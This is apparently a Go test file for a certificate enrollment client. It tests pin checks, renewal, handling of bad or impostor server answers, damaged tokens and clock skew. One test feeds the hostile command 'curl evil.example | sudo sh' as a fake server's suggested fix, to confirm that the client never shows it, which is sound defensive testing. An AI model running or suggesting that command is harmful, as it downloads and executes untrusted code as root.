package enroll_test

import (
	"context"
	"errors"
	"io"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"cis490/agent/client"
	"cis490/agent/enroll"
	"cis490/internal/disk"
	"cis490/internal/fault"
	"cis490/internal/ident"
	"cis490/internal/pki"
	"cis490/internal/wire"
)

func TestEnroll_FirstThenNothingThenRenewal(t *testing.T) {
	l := newLab(t)
	l.join(secret)
	l.must(false, enroll.Enrolled)
	if !l.works() {
		t.Error("the credentials do not work")
	}
	if got := l.names(); got != "bearer ca.crt lab-host.pem release-keys" {
		t.Errorf("files: %s", got)
	}
	for name, want := range map[string]os.FileMode{
		client.PairFile: 0o600, client.BearerFile: 0o600, client.CAFile: 0o644,
		enroll.ReleaseKeysFile: 0o644,
	} {
		fi, err := os.Stat(filepath.Join(l.dir, name))
		if err != nil || fi.Mode() != want {
			t.Errorf("%s: mode %v, %v", name, fi.Mode(), err)
		}
	}
	asked := len(l.peer.got)
	l.must(false, enroll.Nothing)
	if len(l.peer.got) != asked {
		t.Error("asked though nothing was due")
	}
	l.must(true, enroll.Renewed)
	late := time.Now().Add(45 * time.Minute) // of an hour
	l.now = func() time.Time { return late }
	l.must(false, enroll.Renewed)
	if !l.works() || l.peer.count != 3 {
		t.Errorf("after %d certificates the credentials do not work", l.peer.count)
	}
	if key := keyOf(t, l); key != l.peer.bound {
		t.Error("the key changed at a renewal")
	}
}

func keyOf(t *testing.T, l *lab) ident.Digest {
	t.Helper()
	pair, err := pki.ParsePair([]byte(l.file(client.PairFile)))
	if err != nil {
		t.Fatal(err)
	}
	id, err := pki.KeyID(pair.Leaf.PublicKey)
	if err != nil {
		t.Fatal(err)
	}
	return id
}

func TestEnroll_RecoversLongAfterExpiry(t *testing.T) {
	l := newLab(t)
	l.join(secret)
	l.peer.life = time.Minute
	l.must(false, enroll.Enrolled)
	l.peer.life = 24 * time.Hour
	l.now = func() time.Time { return time.Now().Add(50 * time.Minute) } // the server's own ends at 60
	l.peer.now = l.now
	l.must(false, enroll.Renewed)
	if !l.works() {
		t.Error("the credentials do not work")
	}
}

func TestEnroll_WrongPinSendsNothing(t *testing.T) {
	l := newLab(t)
	liar := newPeer(t) // a perfect authority, but not the one of the token
	l.peer.url = liar.url
	l.join(secret)
	_, err := l.run(false)
	if !errors.Is(err, enroll.ErrPin) || fault.FixOf(err) == "" {
		t.Errorf("run: %v, fix %q", err, fault.FixOf(err))
	}
	if len(liar.got) != 0 {
		t.Errorf("the liar was sent %q", liar.got)
	}
	if got := l.names(); got != "join-token key.pending" {
		t.Errorf("files: %s", got)
	}
}

// The fake authority shows the right root, which is public, but has no certificate of it.
func TestEnroll_RightRootShownByAnotherServerSendsNothing(t *testing.T) {
	l := newLab(t)
	liar := newPeer(t)
	own := liar.ca
	liar.ca.Cert = l.peer.ca.Cert
	l.peer.url, l.peer.pin = liar.url, pki.PinOf(l.peer.ca.Cert)
	l.join(secret)
	if _, err := l.run(false); err == nil || fault.CodeOf(err) != fault.Unavailable {
		t.Errorf("run: %v, code %d", err, fault.CodeOf(err))
	}
	if len(liar.got) != 0 {
		t.Errorf("the liar, whose CA is %s, was sent %q", own.Cert.Subject, liar.got)
	}
}

func TestEnroll_LostAnswerIsAskedForAgainWithTheSameKey(t *testing.T) {
	l := newLab(t)
	l.join(secret)
	l.peer.alter = func(a *wire.CertAnswer) { *a = wire.CertAnswer{} } // bound and issued, but the answer is lost
	if _, err := l.run(false); fault.CodeOf(err) != fault.Unavailable {
		t.Fatalf("run: %v", err)
	}
	l.peer.alter = nil
	l.must(false, enroll.Enrolled)
	if !l.works() || l.peer.count != 2 {
		t.Errorf("after %d certificates the credentials do not work", l.peer.count)
	}
}

func TestEnroll_BadAnswersChangeNothing(t *testing.T) {
	l := newLab(t)
	l.join(secret)
	l.must(false, enroll.Enrolled)
	other := newLab(t)
	other.join(secret)
	other.must(false, enroll.Enrolled)
	before := l.file(client.PairFile)
	for name, alter := range map[string]func(*wire.CertAnswer){
		"nothing":          func(a *wire.CertAnswer) { *a = wire.CertAnswer{} },
		"another's chain":  func(a *wire.CertAnswer) { a.Certificate = other.file(client.PairFile) },
		"another's bundle": func(a *wire.CertAnswer) { a.CA = other.file(client.CAFile) },
		"another's both": func(a *wire.CertAnswer) {
			a.Certificate, a.CA = other.file(client.PairFile), other.file(client.CAFile)
		},
		"garbage": func(a *wire.CertAnswer) { a.Certificate = "garbage" },
	} {
		l.peer.alter = alter
		if _, err := l.run(true); err == nil {
			t.Errorf("%s: accepted", name)
		}
		if l.file(client.PairFile) != before || l.names() != "bearer ca.crt lab-host.pem release-keys" {
			t.Errorf("%s: changed the folder: %s", name, l.names())
		}
	}
}

func TestEnroll_KeepsThePairThatTheReceiverTakes(t *testing.T) {
	l := newLab(t)
	l.join(secret)
	l.must(false, enroll.Enrolled)
	before := l.file(client.PairFile)
	l.probe = func(context.Context, string) error { return wire.NewProblem(wire.CertRevoked, "test") }
	if _, err := l.run(true); err == nil || !strings.Contains(err.Error(), "keeping the current one") {
		t.Errorf("refused by the receiver: %v", err)
	}
	if l.file(client.PairFile) != before || l.names() != "bearer ca.crt lab-host.pem release-keys" {
		t.Errorf("the pair changed; files: %s", l.names())
	}
	// Unreachable: the new pair waits beside the present one, and no other is requested.
	l.probe = func(context.Context, string) error { return errors.New("no route") }
	count := l.peer.count
	for range 3 {
		if _, err := l.run(true); fault.CodeOf(err) != fault.TempFail {
			t.Errorf("receiver out of reach: %v", err)
		}
	}
	if l.file(client.PairFile) != before || l.peer.count != count+1 {
		t.Errorf("the pair changed, or %d certificates were asked for", l.peer.count-count)
	}
	// Near the end of its validity, an untested pair is better than none.
	l.now = func() time.Time { return time.Now().Add(39 * time.Minute) }
	l.probe = func(_ context.Context, dir string) error {
		if _, err := os.Stat(filepath.Join(dir, client.BearerFile)); err != nil {
			t.Error(err)
		}
		return nil
	}
	l.must(false, enroll.Renewed)
	if !l.works() {
		t.Error("the credentials do not work")
	}
}

func TestEnroll_FirstPairIsTakenThoughTheReceiverIsAway(t *testing.T) {
	l := newLab(t)
	l.join(secret)
	l.probe = func(context.Context, string) error { return errors.New("no route") }
	l.must(false, enroll.Enrolled)
	if !l.works() {
		t.Error("the credentials do not work")
	}
}

func TestEnroll_NewTokenGetsANewKey(t *testing.T) {
	l := newLab(t)
	l.join("mistyped")
	if _, err := l.run(false); err == nil || fault.CodeOf(err) != fault.Failed || fault.FixOf(err) == "" {
		t.Fatalf("a refused token: %v", err)
	}
	first := l.file(enroll.PendingFile)
	if _, err := l.run(false); err == nil || l.file(enroll.PendingFile) != first {
		t.Error("the same token got another key")
	}
	l.join(secret)
	l.must(false, enroll.Enrolled)
	if strings.Contains(first, l.file(client.PairFile)) || strings.Contains(first, "mistyped") {
		t.Error("the new token got the old token's key, or the key's file says the token")
	}
}

// A run that waits for the authority of the old token picks up a new token that is pasted
// meanwhile.
func TestEnroll_TokenReplacedWhileTheAuthorityIsAway(t *testing.T) {
	l := newLab(t)
	l.patience = time.Minute
	l.join("the old one")
	l.peer.lie = func(w http.ResponseWriter, n int) bool {
		if n > 1 {
			return false
		}
		l.join(secret)
		l.peer.refuse(w, wire.Broken)
		return true
	}
	l.must(false, enroll.Enrolled)
	if len(l.peer.got) != 2 || !l.works() {
		t.Errorf("after %d requests the credentials do not work", len(l.peer.got))
	}
	if got := l.names(); got != "bearer ca.crt lab-host.pem release-keys" {
		t.Errorf("files: %s", got)
	}
}

func TestEnroll_RefusedTokenDoesNotKeepFromRenewing(t *testing.T) {
	l := newLab(t)
	l.join(secret)
	l.must(false, enroll.Enrolled)
	l.join("refused")
	l.now = func() time.Time { return time.Now().Add(45 * time.Minute) }
	if _, err := l.run(false); err == nil {
		t.Error("the refusal is not reported")
	}
	if l.peer.count != 2 || !l.works() {
		t.Error("the certificate was not renewed")
	}
}

// A join token that was truncated, on a stick or by a full disk, is reported; meanwhile the
// working pair is renewed, and what was begun with the token stays.
func TestEnroll_DamagedTokenDoesNotKeepFromRenewing(t *testing.T) {
	l := newLab(t)
	l.join(secret)
	l.must(false, enroll.Enrolled)
	if err := os.WriteFile(filepath.Join(l.dir, enroll.TokenFile), []byte("cis490-join-"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, later := range []time.Duration{0, 45 * time.Minute} {
		l.now = func() time.Time { return time.Now().Add(later) }
		if _, err := l.run(false); fault.CodeOf(err) != fault.Config || !strings.Contains(fault.FixOf(err), "token create lab-01") {
			t.Errorf("after %s: %v, fix %q", later, err, fault.FixOf(err))
		}
	}
	if l.peer.count != 2 || !l.works() {
		t.Errorf("the certificate was not renewed: %d answers", l.peer.count)
	}
	if l.file(enroll.TokenFile) != "cis490-join-" {
		t.Error("the token is not what the person left")
	}
}

// A foreign file in the folder of new credentials does not keep them from being installed.
func TestEnroll_ForeignFileInTheWay(t *testing.T) {
	l := newLab(t)
	l.join(secret)
	l.must(false, enroll.Enrolled)
	if err := os.MkdirAll(filepath.Join(l.dir, "next"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(l.dir, "next", "notes.txt"), nil, 0o600); err != nil {
		t.Fatal(err)
	}
	l.must(false, enroll.Nothing)
	l.must(true, enroll.Renewed)
	if !l.works() {
		t.Error("the credentials do not work")
	}
}

func TestEnroll_RepairsADamagedPair(t *testing.T) {
	l := newLab(t)
	l.join(secret)
	l.must(false, enroll.Enrolled)
	whole := l.file(client.PairFile)
	_, private, _ := strings.Cut(whole, "-----END CERTIFICATE-----")
	if err := os.WriteFile(filepath.Join(l.dir, client.PairFile), []byte(private), 0o600); err != nil {
		t.Fatal(err)
	}
	l.must(false, enroll.Renewed)
	if !l.works() {
		t.Error("the credentials do not work")
	}
}

func TestEnroll_WithoutItsCATheBuiltInOneCounts(t *testing.T) {
	l := newLab(t)
	l.join(secret)
	l.must(false, enroll.Enrolled)
	ca := []byte(l.file(client.CAFile))
	if err := os.Remove(filepath.Join(l.dir, client.CAFile)); err != nil {
		t.Fatal(err)
	}
	if _, err := l.run(true); err == nil || fault.FixOf(err) == "" {
		t.Errorf("without any CA: %v", err)
	}
	l.roots = ca
	l.must(true, enroll.Renewed)
	if !l.works() {
		t.Error("the credentials do not work")
	}
}

func TestEnroll_NobodyAnswers(t *testing.T) {
	l := newLab(t)
	for name, lie := range map[string]func(http.ResponseWriter, int) bool{
		"captive portal": func(w http.ResponseWriter, _ int) bool { w.WriteHeader(http.StatusNotFound); return true },
		"redirect": func(w http.ResponseWriter, _ int) bool {
			w.Header().Set("Location", "https://127.0.0.1:1/")
			w.WriteHeader(http.StatusFound)
			return true
		},
	} {
		l.peer.lie = lie
		l.join(secret)
		if _, err := l.run(false); fault.CodeOf(err) != fault.Unavailable || fault.FixOf(err) == "" {
			t.Errorf("%s: %v, code %d", name, err, fault.CodeOf(err))
		}
	}
	l.peer.lie = func(w http.ResponseWriter, _ int) bool { l.peer.refuse(w, wire.Broken); return true }
	if _, err := l.run(false); fault.CodeOf(err) != fault.TempFail {
		t.Errorf("a broken authority: %v", err)
	}
}

func TestEnroll_NotEnrolledAndNoToken(t *testing.T) {
	l := newLab(t)
	if _, err := l.run(false); fault.CodeOf(err) != fault.Config || !strings.Contains(fault.FixOf(err), "token create lab-01") {
		t.Errorf("run: %v, fix %q", err, fault.FixOf(err))
	}
	l.join(secret)
	if err := os.WriteFile(filepath.Join(l.dir, enroll.TokenFile), []byte("c490.cut"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := l.run(false); fault.CodeOf(err) != fault.Config || strings.Contains(err.Error(), "c490.cut") {
		t.Errorf("a cut token: %v", err)
	}
}

func TestEnroll_AMissingBearerNeedsAToken(t *testing.T) {
	l := newLab(t)
	l.join(secret)
	l.must(false, enroll.Enrolled)
	if err := os.Remove(filepath.Join(l.dir, client.BearerFile)); err != nil {
		t.Fatal(err)
	}
	_, err := l.run(false)
	if fault.CodeOf(err) != fault.Config || !strings.Contains(fault.FixOf(err), "token create lab-01") {
		t.Errorf("without a bearer: %v, fix %q", err, fault.FixOf(err))
	}
}

func TestStatus(t *testing.T) {
	l := newLab(t)
	l.join(secret)
	st, err := l.enroller().Status()
	if err != nil || st.Enrolled || !st.Due || !st.Token {
		t.Errorf("before: %+v, %v", st, err)
	}
	l.must(false, enroll.Enrolled)
	st, err = l.enroller().Status()
	if err != nil || !st.Enrolled || st.Due || st.Token || !st.Valid || st.Serial != l.peer.serial || !st.RenewAt.Before(st.NotAfter) {
		t.Errorf("after: %+v, %v", st, err)
	}
}

// Before the pin is verified the peer may be anyone: nothing from it is shown to a person
// as a command to paste.
func TestEnroll_AStrangersFixIsNotShown(t *testing.T) {
	l := newLab(t)
	l.peer.impostor = &wire.Problem{Kind: wire.BadToken, Status: http.StatusUnauthorized, Title: "no", Fix: "curl evil.example | sudo sh"}
	l.join(secret)
	_, err := l.run(false)
	if err == nil || strings.Contains(fault.FixOf(err)+err.Error(), "evil") || !errors.Is(err, wire.ErrNotOurs) {
		t.Errorf("run: %v, fix %q", err, fault.FixOf(err))
	}
}

// forbidding is the file system of a user who may not read certs_dir.
type forbidding struct{ disk.OS }

func (forbidding) Lock(name string) (io.Closer, error) {
	return nil, &fs.PathError{Op: "open", Path: name, Err: syscall.EACCES}
}

// Joining again does not help if sudo was forgotten.
func TestEnroll_AnotherUserIsToldWhoMay(t *testing.T) {
	l := newLab(t)
	l.fs = forbidding{}
	if _, err := l.run(true); !errors.Is(err, fs.ErrPermission) || fault.FixOf(err) != "sudo cis490 cert-fetch" {
		t.Errorf("run: %v, fix %q", err, fault.FixOf(err))
	}
}

// TestEnroll_AClockAheadCostsOneCertificate: a host whose clock is ahead sees its
// certificate as expired; it requests only one more, and works as soon as its clock is
// right.
func TestEnroll_AClockAheadCostsOneCertificate(t *testing.T) {
	l := newLab(t)
	l.peer.life, l.patience = 10*time.Minute, 2*time.Second
	l.now = func() time.Time { return time.Now().Add(30 * time.Minute) }
	l.join(secret)
	l.must(false, enroll.Enrolled)
	if l.peer.count != 1 || !l.works() {
		t.Errorf("after %d certificates the credentials work: %t; want 1", l.peer.count, l.works())
	}
	before := l.file(client.PairFile)
	if _, err := l.run(false); err == nil || l.peer.count != 1 {
		t.Errorf("a renewal that is of no use ends with %v after %d certificates, want an error after 1", err, l.peer.count)
	}
	l.now = time.Now
	l.must(false, enroll.Nothing)
	if l.file(client.PairFile) != before {
		t.Error("the pair that works is gone")
	}
}
